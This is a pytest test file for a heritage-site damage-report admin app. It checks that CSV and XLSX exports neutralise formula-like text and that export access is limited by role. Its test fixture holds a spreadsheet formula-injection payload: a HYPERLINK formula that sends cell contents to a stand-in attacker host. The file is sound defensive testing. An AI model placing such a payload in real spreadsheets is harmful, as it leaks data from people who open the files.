"""Exports a spreadsheet opens safely: a claim's text that looks like a formula stays
text (CSV: guarded with an apostrophe; XLSX: a text cell), and imports back unchanged.
Only the roles that edit the tables may export them."""

import io

import openpyxl
import pytest

from heritage.admin.base import FormulaSafeCSV, FormulaSafeXLSX
from heritage.models import DamageReport
from heritage.resources import DamageReportResource

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'


@pytest.fixture
def hostile_claim(one_claim):
    DamageReport.objects.filter(pk=one_claim.pk).update(
        excerpt=FORMULA, attributed_to="@SUM(1+1)", inference_note="-2+3"
    )
    return DamageReport.objects.get(pk=one_claim.pk)


def exported(file_format):
    dataset = DamageReportResource().export(DamageReport.objects.all())
    return dataset, file_format().export_data(dataset)


def test_csv_cells_that_look_like_formulas_are_guarded(hostile_claim):
    _, data = exported(FormulaSafeCSV)
    text = data if isinstance(data, str) else data.decode("utf-8-sig")

    assert "'=HYPERLINK(" in text
    assert "'@SUM(1+1)" in text
    assert "'-2+3" in text
    for line in text.splitlines():
        for cell in line.split(","):
            assert not cell.lstrip('"').startswith(("=", "@", "+")), cell


def test_xlsx_stores_formula_like_text_as_text(hostile_claim):
    _, data = exported(FormulaSafeXLSX)
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active

    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert FORMULA in [cell.value for cell in cells]


@pytest.mark.parametrize("file_format", [FormulaSafeCSV, FormulaSafeXLSX])
def test_a_guarded_export_reads_back_as_it_was(hostile_claim, file_format):
    dataset, data = exported(file_format)

    read = file_format().create_dataset(data)

    assert read.headers == dataset.headers
    row = dict(zip(read.headers, read[0], strict=True))
    assert row["excerpt"] == FORMULA
    assert row["attributed_to"] == "@SUM(1+1)"


@pytest.mark.parametrize(
    ("role", "status"), [("viewer", 403), ("curator", 200), ("reviewer", 200)]
)
def test_only_roles_that_edit_the_tables_can_export(one_claim, client_for, request, role, status):
    client = client_for(request.getfixturevalue(role))
    for model in ("damagereport", "monument", "source"):
        assert client.get(f"/admin/heritage/{model}/export/").status_code == status, model


def test_deleted_claims_are_listed_when_their_source_is_deleted_too(
    one_claim, reviewer, client_for
):
    source = one_claim.source
    one_claim.delete()
    source.delete()

    response = client_for(reviewer).get("/admin/heritage/damagereport/deleted/")

    assert response.status_code == 200
    assert "damage report arch (a record it refers to is deleted too)" in response.content.decode()
